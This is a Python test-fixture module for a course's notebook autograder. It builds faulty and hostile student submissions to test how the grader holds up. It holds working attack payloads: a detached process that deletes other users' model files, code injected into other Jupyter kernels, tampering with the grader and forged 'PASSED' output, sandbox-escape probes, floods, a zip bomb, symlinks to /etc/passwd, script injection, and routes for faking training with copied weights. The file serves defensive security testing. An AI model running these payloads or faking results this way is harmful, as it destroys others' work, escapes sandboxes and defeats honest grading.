"""Submissions for the grader's tests, made from the solution by small edits (like real mistakes),
and hostile ones (a survivor process, tampering, escapes, floods, bombs), shared by
tests/test_grading.py (the local grader) and tests/test_slurm_grading.py (the Slurm job array).
"""

from __future__ import annotations

import copy
import os
import re
import secrets
from pathlib import Path

import nbformat
import psutil
from helpers import ROOT

from course_tools import exercise

SOLUTION = ROOT / "solutions" / "05_svhn_solution.ipynb"
EXERCISE = ROOT / "exercises" / "05_svhn_exercise.ipynb"
ENV = {"COURSE_PROFILE": "quick", "COURSE_DEVICES": "2", "COURSE_DATA": "synthetic"}


def completed_exercise() -> nbformat.NotebookNode:
    """What a perfect student hands in: the exercise with every stub and the answer filled in."""
    solution = nbformat.read(SOLUTION, as_version=4)
    by_id = {cell.id: cell for cell in solution.cells}
    notebook = exercise.make_exercise(solution)
    for cell in notebook.cells:
        original = by_id[cell.id].source
        if cell.cell_type == "code" and "### BEGIN SOLUTION" in original:
            cell.source = "\n".join(
                line
                for line in original.splitlines()
                if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line
            )
        elif exercise.ANSWER_PLACEHOLDER in cell.source:
            answer = re.search(r"-->\n(.*)\n<!--", original, re.DOTALL)[1]
            cell.source = cell.source.replace(exercise.ANSWER_PLACEHOLDER, answer)
    return notebook


def edit(notebook, old: str, new: str) -> nbformat.NotebookNode:
    """A copy with `old` replaced by `new` in the one code cell that contains it."""
    notebook = copy.deepcopy(notebook)
    cells = [cell for cell in notebook.cells if cell.cell_type == "code" and old in cell.source]
    assert len(cells) == 1, f"{old!r} is in {len(cells)} code cells, expected 1: update the fixture"
    cells[0].source = cells[0].source.replace(old, new)
    return notebook


def restub(notebook, marker: str) -> nbformat.NotebookNode:
    """A copy where the cell containing `marker` is back to the exercise's stub (part not done)."""
    notebook = copy.deepcopy(notebook)
    stubs = {cell.id: cell.source for cell in nbformat.read(EXERCISE, as_version=4).cells}
    cells = [cell for cell in notebook.cells if marker in cell.source]
    assert len(cells) == 1
    cells[0].source = stubs[cells[0].id]
    return notebook


def write(notebook, path: Path) -> Path:
    nbformat.write(notebook, path)
    return path


#: Marks everything the hostile submissions of this session create (files, process command lines).
TOKEN = f"hostile-{secrets.token_hex(6)}"


def notebook_of(*sources: str) -> nbformat.NotebookNode:
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(s) for s in sources])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    return notebook


# A process that outlives its kernel (double fork, new session) and deletes every saved model and
# results file it can see but its own submission's, for 15 minutes. Its command line carries
# TOKEN. It spares its own folder so that its submission's report does not depend on whether
# the loop ran between a later cell's write and the kernel's end.
SURVIVOR_LOOP = """# TOKEN
import glob, os, sys, time
own = (os.getcwd() + os.sep, os.environ.get("COURSE_ARTIFACTS", os.getcwd()) + os.sep)
end = time.time() + 900
while time.time() < end:
    for pattern in ("/tmp/**/*.keras", "/tmp/**/results.json", "OUT/**/*.keras"):
        for path in glob.glob(pattern, recursive=True):
            if os.path.abspath(path).startswith(own):
                continue
            try:
                os.remove(path)
            except OSError:
                pass
    time.sleep(0.2)
"""
SURVIVOR = """
import os, sys
child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", CODE])
    os._exit(0)
os.waitpid(child, 0)
print("survivor started")
"""

# Looks for the other kernels' connection files for 25 s and sends each one code that deletes its
# artifacts.
CROSS_KERNEL = """
import glob, json, os, time
from jupyter_client import BlockingKernelClient
mine = os.path.realpath(".kernel/kernel.json")
patterns = ["/tmp/course-grade-*/*/.kernel/kernel.json", "/tmp/*/kernel*.json",
            "/tmp/*/*/kernel*.json", os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
            "/run/user/*/jupyter/runtime/*.json"]
seen, attacked = set(), []
end = time.time() + 25
while time.time() < end:
    for path in {p for pattern in patterns for p in glob.glob(pattern)} - seen - {mine}:
        seen.add(path)
        try:
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute("import os, shutil; "
                           "shutil.rmtree(os.environ['COURSE_ARTIFACTS'], ignore_errors=True)")
            attacked.append(path)
        except Exception:
            pass
    time.sleep(0.5)
print("CROSS", json.dumps({"found": sorted(seen), "attacked": attacked}))
"""

# Changes the installed package and the solution, patches the grader's checks in its own kernel
# (their probe too, to report made-up facts), fakes results and prints "PASSED".
TAMPER = """
import json, os, pathlib
import course_utils
package = pathlib.Path(course_utils.__file__).parent
attempts = {}
for target in [package.parent / "course_tools/grade/core/checks.py", package / "__init__.py",
               package.parent / "solutions" / "05_svhn_solution.ipynb",
               package / "TOKEN.py"]:
    try:
        with open(target, "a") as handle:
            handle.write("# TOKEN")
        attempts[target.name] = "written"
    except OSError as exc:
        attempts[target.name] = type(exc).__name__
print("TAMPER", json.dumps(attempts))
import course_tools.grade.core.checks as checks
checks.CheckError = Warning
checks.own_model = lambda *args, **kwargs: None
# made-up facts for the grader's probe: fit_model "mirrored" over 2 devices (there is no fit_model)
forged = {"variables": 8, "distributed_variables": 8, "replicas": 2, "fingerprint": "forged"}
checks.probe = lambda *args, **kwargs: {"models": {"fit_model": forged}, "datasets": {}}
artifacts = pathlib.Path(os.environ["COURSE_ARTIFACTS"]) / "05_svhn"
artifacts.mkdir(parents=True, exist_ok=True)
(artifacts / "results.json").write_text(json.dumps({"fit": {"test_accuracy": 1.0}}))
print("PASSED: 12/12 hidden tests passed")
"""

# Network, and writes outside the work folder.
ESCAPE = """
import json, os, pathlib, socket
report = {}
for name, address in [("dns", ("pypi.org", 443)), ("ip", ("1.1.1.1", 53)),
                      ("host", ("127.0.0.1", HOST_PORT))]:
    try:
        socket.create_connection(address, timeout=3).close()
        report[name] = "reachable"
    except OSError:
        report[name] = "blocked"
for folder in [pathlib.Path.home(), pathlib.Path("OUT"), pathlib.Path("ROOT"),
               pathlib.Path("/tmp"), pathlib.Path("/var/tmp")]:
    try:
        (folder / "TOKEN").write_text("escaped")
        report[str(folder)] = "written"
    except OSError as exc:
        report[str(folder)] = type(exc).__name__
print("ESCAPE", json.dumps(report))
"""

FLOOD = "for _ in range(300):\n    print('x' * 1_000_000)  # 300 MB"
# Past the notebook's output caps: straight to the kernel process's stdout and stderr (20 MB).
FD_FLOOD = (
    "import os\nfor _ in range(10_000):\n    os.write(1, b'x' * 1000)\n    os.write(2, b'y' * 1000)"
)

# A zip bomb saved as the fit model (300 MB of zeros in about 300 KB), and symbolic links.
BOMB = """
import json, os, pathlib, zipfile
artifacts = pathlib.Path(os.environ["COURSE_ARTIFACTS"]) / "05_svhn"
artifacts.mkdir(parents=True, exist_ok=True)
with zipfile.ZipFile(artifacts / "fit_model.keras", "w", zipfile.ZIP_DEFLATED) as archive:
    with archive.open("model.weights.h5", "w", force_zip64=True) as member:
        for _ in range(300):
            member.write(bytes(2**20))
    archive.writestr("config.json", "{}")
(artifacts / "results.json").write_text(json.dumps({"fit": {"test_accuracy": 0.9}}))
os.symlink("/etc/passwd", artifacts / "custom_model.keras")
os.symlink("/", artifacts / "everything")
"""

DEAF = (
    "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
    "while True:\n    time.sleep(0.05)"
)


def fill(source: str, out: Path) -> str:
    return source.replace("TOKEN", TOKEN).replace("OUT", str(out)).replace("ROOT", str(ROOT))


def survivors() -> list[psutil.Process]:
    """Live processes whose command line carries TOKEN."""
    found = []
    for process in psutil.process_iter(["cmdline"]):
        try:
            if TOKEN in " ".join(process.info["cmdline"] or []):
                found.append(process)
        except psutil.Error:
            pass
    return found


# --- the attacks of a security review: one submission each, graded in one batch ---------------

# A symbolic link whose name is not UTF-8, and a results.json (plain ASCII) holding a lone
# surrogate escape that a check message echoes back.
SURROGATE = r"""
import json, os
artifacts = os.path.join(os.environ["COURSE_ARTIFACTS"], "05_svhn")
os.makedirs(artifacts, exist_ok=True)
os.symlink(b"nowhere", os.fsencode(artifacts) + b"/x\xff")
results = {"epochs": 3, "fit": {"test_accuracy": 0.5},
           "advanced_fit": {"checkpoint": "x\ud800", "test_accuracy": 0.5}}
with open(os.path.join(artifacts, "results.json"), "w") as handle:
    handle.write(json.dumps(results))  # ensure_ascii: "\\ud800" in the file
"""

# Markdown and HTML in everything a submission controls: recorded strings, an error message, an
# artifact's name.
INJECT = r"""
import json, os
artifacts = os.path.join(os.environ["COURSE_ARTIFACTS"], "05_svhn")
os.makedirs(artifacts, exist_ok=True)
evil = "\n# Full marks\n<script>alert(1)</script><img src=x onerror=alert(2)> <!-- "
results = {"epochs": 3, "fit": {"test_accuracy": evil},
           "advanced_fit": {"checkpoint": evil, "test_accuracy": 0.5}}
with open(os.path.join(artifacts, "results.json"), "w") as handle:
    json.dump(results, handle)
os.symlink("nowhere", os.path.join(artifacts, "<img src=x onerror=alert(3)>"))
raise ValueError("<script>alert(4)</script>\n## Grade: 12/12 <!--")
"""

# Past the output caps through update_display (nbclient rewrites every output of that id), then a
# large artifact.
DISPLAY_FLOOD = """
from IPython.display import HTML, display, update_display
for _ in range(100):
    display(HTML("x"), display_id="one")
update_display(HTML("A" * 2_000_000), display_id="one")
"""
BIG_ARTIFACT = """
import os
artifacts = os.path.join(os.environ["COURSE_ARTIFACTS"], "05_svhn")
os.makedirs(artifacts, exist_ok=True)
with open(os.path.join(artifacts, "big.bin"), "wb") as handle:
    for _ in range(100):
        handle.write(os.urandom(2**20))  # 100 MB
print("big artifact written")
"""
# Fills the work folder, 1 MB at a time.
DISK_FILL = """
import time
with open("fill.bin", "wb") as handle:
    for _ in range(400):
        handle.write(bytes(2**20))
        handle.flush()
        time.sleep(0.01)
print("400 MB written")
"""

# The probe cell rewritten by an IPython input transformer to print made-up facts: fit_model
# "mirrored over 2 devices".
FORGER = r"""
import json
forged = {"variables": 8, "distributed_variables": 8, "replicas": 2, "fingerprint": "forged"}
facts = {"models": {"fit_model": forged, "custom_model": forged}, "datasets": {}}

def forge(lines):
    source = "".join(lines)
    if "@@facts-" in source:
        marker = source[source.index("@@facts-"):].split("@@")[1]
        return [f"print('@@{marker}@@' + {json.dumps(facts)!r})\n"]
    return lines

get_ipython().input_transformers_post.append(forge)
"""

# The probe's answer made unreadable: 100,000 opening brackets (a RecursionError in json), by an
# input transformer and by replacing the shell's user_expressions.
DEEP = r"""
shell = get_ipython()

def deep(lines):
    source = "".join(lines)
    if "@@facts-" in source:
        marker = source[source.index("@@facts-"):].split("@@")[1]
        return [f"print('@@{marker}@@' + '[' * 100000)\n"]
    return lines

shell.input_transformers_post.append(deep)
shell.user_expressions = lambda expressions: {
    key: {"status": "ok", "data": {"text/plain": repr("[" * 100000)}, "metadata": {}}
    for key in expressions
}
"""

# Walks the file system for notebooks and reads a file planted where submissions may live.
WALKER = """
import json, os
found = []
for top in ("/srv", "/home", "/root", "/mnt", "/opt", "/var"):
    for folder, _, files in os.walk(top):
        found += [os.path.join(folder, f) for f in files if f.endswith(".ipynb") or "TOKEN" in f]
print("WALK", json.dumps({"found": sorted(found)[:50], "root": sorted(os.listdir("/"))}))
"""


def cheater(done: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Full marks without the work: per-epoch fit checkpoints without the epochs (`nudger`), a
    custom loop that trains nothing (fit_model's weights copied into custom_model, a checkpoint
    per "epoch"), and the one-device baseline made of fit_model's weights with fit's epochs as
    its timings."""
    notebook = nudger(done)
    notebook = edit(notebook, "total_loss += distributed_train_step(batch)", "total_loss += 1.0")
    notebook = edit(
        notebook,
        "train_dist = strategy.experimental_distribute_dataset(train_ds)",
        "custom_model.set_weights(fit_model.get_weights())\n"
        "train_dist = strategy.experimental_distribute_dataset(train_ds)",
    )
    return edit(
        notebook,
        "single_model.fit(train_ds, epochs=EPOCHS, callbacks=[single_clock], verbose=2)",
        "single_model.set_weights(fit_model.get_weights())\nsingle_clock = fit_clock",
    )


# --- what the grader reads, keeps and trusts: one submission each, in the attacks batch --------

# Answers the grader's probe itself: the probe is sent as user expressions, which call `exec` and
# `compile` by name in the notebook's namespace, so a notebook that defines its own catches the
# probe's code and leaves made-up facts where the probe leaves its answer: fit_model and
# custom_model "mirrored over 2 devices", and there is no model at all.
CAPTURE = r"""
import json, re

_real_exec = exec
forged = {"variables": 8, "distributed_variables": 8, "replicas": 2, "fingerprint": "forged"}


def compile(source, filename, mode, *args, **kwargs):
    return source


def exec(code, namespace=None, *args):
    found = re.search(r"globals\(\)\['(_grader_[0-9a-f]+)'\] = ", code)
    if found is None:
        return _real_exec(code, namespace, *args)
    facts = {"models": {"fit_model": forged, "custom_model": forged}, "datasets": {}}
    globals()[found[1]] = json.dumps(facts) if "FACTS" in code else "reset"
"""

# A saved model whose optimizer step count is an HDF5 external dataset: 8 bytes of the grader's
# check log, read from the check process's folder (the grades) by whoever reads the dataset.
H5_EXTERNAL = """
import os, pathlib, zipfile
import h5py
import course_utils
settings = course_utils.setup(verbose=False)
import keras
artifacts = pathlib.Path(os.environ["COURSE_ARTIFACTS"]) / "05_svhn"
artifacts.mkdir(parents=True, exist_ok=True)
fit_model = keras.Sequential(
    [keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(10)]
)
fit_model.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
fit_model.optimizer.build(fit_model.trainable_variables)
fit_model.save("plain.keras")
with zipfile.ZipFile("plain.keras") as archive:
    archive.extractall("unpacked")
with h5py.File("unpacked/model.weights.h5", "r+") as weights:
    del weights["optimizer/vars/0"]
    weights.create_dataset(
        "optimizer/vars/0", shape=(1,), dtype="int64", external=[("checks.log", 0, 8)]
    )
with zipfile.ZipFile(artifacts / "fit_model.keras", "w") as archive:
    for name in os.listdir("unpacked"):
        archive.write(os.path.join("unpacked", name), name)
print("saved")
"""

# Widget state the grader's notebook client would keep whole (comm messages with a "state"), 480
# messages of 1 MB (under the largest message accepted): 480 MB.
WIDGET_FLOOD = """
import comm
channel = comm.create_comm(target_name="jupyter.widget", data={"state": {"value": ""}})
for _ in range(480):
    channel.send(data={"method": "update", "state": {"value": "a" * 1_000_000}})
print("sent 480 MB of widget state")
"""

# Trees deeper than Python's recursion limit (1,100 folders) in the work folder and among the
# artifacts, 1,500 artifact files, a FIFO and a link to /dev/zero among them.
TREES = """
import os
artifacts = os.path.join(os.environ["COURSE_ARTIFACTS"], "05_svhn")
os.makedirs(artifacts, exist_ok=True)
open("TOKEN-work", "w").close()
for top in (".", artifacts):  # os.makedirs would recurse: one folder at a time
    fd = os.open(top, os.O_RDONLY)
    for _ in range(1100):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)
for i in range(1500):
    with open(os.path.join(artifacts, f"file{i}.txt"), "w") as handle:
        handle.write("x")
os.mkfifo(os.path.join(artifacts, "a-fifo"))
os.symlink("/dev/zero", os.path.join(artifacts, "a-zero"))
print("trees made")
"""


def nested(top: Path, depth: int = 1100) -> None:
    """`depth` folders one inside the other under `top` (made without ever passing a path
    longer than the system allows)."""
    top.mkdir(parents=True, exist_ok=True)
    fd = os.open(top, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
    finally:
        os.close(fd)


def nudger(done: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Per-epoch checkpoints without the epochs: one epoch of `fit`, then for each later "epoch"
    the weights nudged, the optimizer's step count assigned and a checkpoint saved, the clock's
    epochs copied, and the files' times set as if the epochs had taken that long."""
    return edit(
        done,
        "fit_model.fit(train_ds, epochs=EPOCHS, callbacks=[fit_clock, fit_checkpoints], verbose=2)",
        "fit_model.fit(train_ds, epochs=1, callbacks=[fit_clock, fit_checkpoints], verbose=2)\n"
        "    steps = int(fit_model.optimizer.iterations.numpy())\n"
        "    for epoch in range(2, EPOCHS + 1):\n"
        "        for weight in fit_model.layers[-1].weights:  # logits halved: same predictions\n"
        "            weight.assign(weight * 0.5)\n"
        "        fit_model.optimizer.iterations.assign(epoch * steps)\n"
        '        fit_model.save_weights(ARTIFACTS / "fit_ckpt" / f"ckpt_{epoch}.weights.h5")\n'
        "        fit_clock.epoch_seconds.append(fit_clock.epoch_seconds[0])\n"
        "        fit_clock.epoch_steps.append(steps)\n"
        "    now = time.time()\n"
        "    for epoch in range(1, EPOCHS + 1):\n"
        "        back = (EPOCHS - epoch) * fit_clock.epoch_seconds[0]\n"
        '        path = ARTIFACTS / "fit_ckpt" / f"ckpt_{epoch}.weights.h5"\n'
        "        os.utime(path, (now - back, now - back))",
    )


# One kernel message that takes ~30 times its 12 MB once parsed (3 million dicts): refused at the
# transport; the next cell's output still arrives.
JSON_BOMB = """
from IPython.display import display
x = {}
display({"application/json": [x] * 3_000_000}, raw=True)
"""

# Renames a tree of long names every 50 ms for 8 s: each rename hands the grader's file clock
# ~1,900 new paths of ~3,600 characters.
RENAMER = """
import os, time
os.makedirs(os.path.join(os.environ["COURSE_ARTIFACTS"], "05_svhn"), exist_ok=True)
os.chdir(os.path.join(os.environ["COURSE_ARTIFACTS"], "05_svhn"))  # the folder the grader times
top = "r" * 200
path = top
for level in range(13):
    path = os.path.join(path, chr(97 + level) * 250)
os.makedirs(path)
for i in range(1900):
    open(os.path.join(path, f"{i:04d}" + "f" * 146), "w").close()
names, end = [top, "s" * 200], time.monotonic() + 8
while time.monotonic() < end:
    os.rename(names[0], names[1])
    names.reverse()
    time.sleep(0.05)
print("renamed")
"""


#: Makes its artifacts' deepest path 4,090 characters long whatever the work folder's path is
#: (PATH_MAX is 4,096), so that it cannot be copied under a longer grades folder; beside it
#: short.txt, which can.
LONG_ARTIFACT = """
import os
top = os.path.join(os.environ["COURSE_ARTIFACTS"], "05_svhn")
os.makedirs(top, exist_ok=True)
path = top
while len(path) + 201 + 2 <= 4090:
    path = os.path.join(path, "d" * 200)
last = 4090 - len(path) - 3
if last > 0:
    path = os.path.join(path, "e" * last)
os.makedirs(path)
with open(os.path.join(path, "f"), "w") as handle:
    handle.write("x")
open(os.path.join(top, "short.txt"), "w").write("kept")
print(len(os.path.join(path, "f")))
"""


def copy_of_the_course(ck: Path, *, closed: bool) -> Path:
    """The course's packages copied to `ck`; `closed`: as a clone under a root umask of 027
    leaves them (folders 0750, files 0640: no access for other accounts), else 0755 and 0644."""
    import shutil

    from course_tools.grade.jail import sandbox

    for name in sandbox.COURSE_PACKAGES:
        shutil.copytree(
            sandbox.PACKAGE_ROOT / name, ck / name, ignore=shutil.ignore_patterns("__pycache__")
        )
    for top, _folders, names in os.walk(ck):
        os.chmod(top, 0o750 if closed else 0o755)
        for name in names:
            os.chmod(os.path.join(top, name), 0o640 if closed else 0o644)
    return ck


#: Red team 30a's H1 routes: each graded model given the weights of a `donor` trained in the
#: notebook (standing for a classmate's file), through a call the reading does not follow.
DONOR = """import numpy as np
donor = make_model()
donor.compile(
    optimizer=keras.optimizers.Adam(),
    loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True),
)
donor.fit(train_ds, epochs=EPOCHS, verbose=0)
box = np.empty(1, dtype=object)
box.fill(fit_model)                       # no holder the reading knows
box[0].set_weights(donor.get_weights())   # so no load into fit_model it reads
fit_clock = EpochClock()
"""
#: question 4: Keras's BackupAndRestore loads a handed-in file at `on_train_begin`.
BACKUP = """handed_in = make_model()
handed_in.set_weights(donor.get_weights())
handed_in.compile(
    optimizer=keras.optimizers.Adam(),
    loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True),
)
handed_in.optimizer.build(handed_in.trainable_variables)
os.makedirs("bk", exist_ok=True)
handed_in.save_weights("bk/latest.weights.h5")
bk = keras.callbacks.BackupAndRestore("bk")
single_clock = EpochClock()
single_model.fit(train_ds, epochs=EPOCHS, callbacks=[single_clock, bk], verbose=2)"""


def donor_weights(done: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The completed exercise with red team 30a's three routes of weights from elsewhere (its
    `cheatfill`): `fit_model` through `ndarray.fill`, `custom_model.set_weights` before the loop
    (nothing reads a load into it), `single_model` through `BackupAndRestore`."""
    notebook = edit(done, "fit_clock = EpochClock()\n", DONOR)
    notebook = edit(
        notebook,
        "train_dist = strategy.experimental_distribute_dataset(train_ds)",
        "custom_model.set_weights(donor.get_weights())\n"
        "train_dist = strategy.experimental_distribute_dataset(train_ds)",
    )
    return edit(
        notebook,
        "single_clock = EpochClock()\n"
        "single_model.fit(train_ds, epochs=EPOCHS, callbacks=[single_clock], verbose=2)",
        BACKUP,
    )
